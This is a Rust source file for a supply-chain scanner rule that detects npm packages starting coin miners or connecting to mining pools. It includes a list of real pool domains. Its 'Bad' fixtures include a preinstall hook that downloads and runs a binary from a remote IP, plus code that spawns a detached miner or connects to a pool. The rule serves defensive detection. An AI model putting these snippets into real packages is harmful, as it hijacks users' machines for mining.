//! # A coin miner is started
//!
//! A command starts a miner, or code connects to a mining pool.
//!
//! ## Why it matters
//!
//! The machine then works for somebody else, until it is found by its heat.
//!
//! ## Known benign uses
//!
//! A package whose purpose is mining, run by its command.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! require("child_process").spawn("/tmp/helper", ["-o", "stratum+tcp://pool.invalid:3333", "-u", "0"], { detached: true }); //~ here
//! ```
//!
//! ```package
//! == package.json //~ 1
//! {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "curl -o x http://203.0.113.5/x; chmod +x x; ./x -o pool.invalid:443 --donate-level=1"}}
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const net = require("net");
//! exports.start = () => net.connect({ host: "pool.supportxmr.com", port: 3333 }, () => {}); //~ here
//! exports.x = 1;
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! exports.hash = (text) => require("crypto").createHash("sha256").update(text).digest("hex");
//! ```
//!
//! ## References
//!
//! - GitHub advisory for ua-parser-js (October 2021)

use stockade_facts::api::{self, Effect};

use crate::prelude::*;

/// A coin miner is started.
pub struct CoinMinerStarted;

impl Rule for CoinMinerStarted {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "coin-miner-started",
            title: "A coin miner is started",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1496.001",
            covers: &["impact-cryptominer"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let runs = |trigger: Trigger| {
            matches!(trigger, Trigger::Install | Trigger::Import | Trigger::Build | Trigger::Call)
        };
        for command in facts.commands().iter().filter(|command| runs(command.trigger)) {
            if command.behaviours.contains(&BehaviourKind::Miner) {
                found.at(command.trigger, &command.locus, "starts a coin miner");
            }
        }
        for call in facts.all_calls().iter().filter(|call| runs(call.trigger) && connects(&call.api)) {
            let texts = call.arguments.iter().flat_map(|argument| {
                argument.texts.iter().chain(argument.options.iter().map(|(_, value)| value))
            });
            if texts.into_iter().any(|text| is_pool(text)) {
                found.call(call, "reaches for a mining pool or miner");
            }
        }
    }
}

fn connects(api: &str) -> bool {
    use Effect::{Program, Send, Shell};
    matches!(api::find(api).map(|api| api.effect), Some(Send(_) | Shell(_) | Program(..)))
}

/// Addresses of pools, from the miners' own documentation and the campaigns of the catalogue.
fn is_pool(text: &str) -> bool {
    const POOLS: &[&str] = &[
        "stratum+",
        "stratum2+",
        "/xmrig",
        "xmrig-",
        "supportxmr.com",
        "minexmr.com",
        "nanopool.org",
        "hashvault.pro",
        "moneroocean.stream",
        "2miners.com",
        "f2pool.com",
        "ethermine.org",
        "nicehash.com",
        "minergate.com",
        "c3pool.com",
        "herominers.com",
        "xmrpool.eu",
    ];
    POOLS.iter().any(|part| text.contains(part))
}
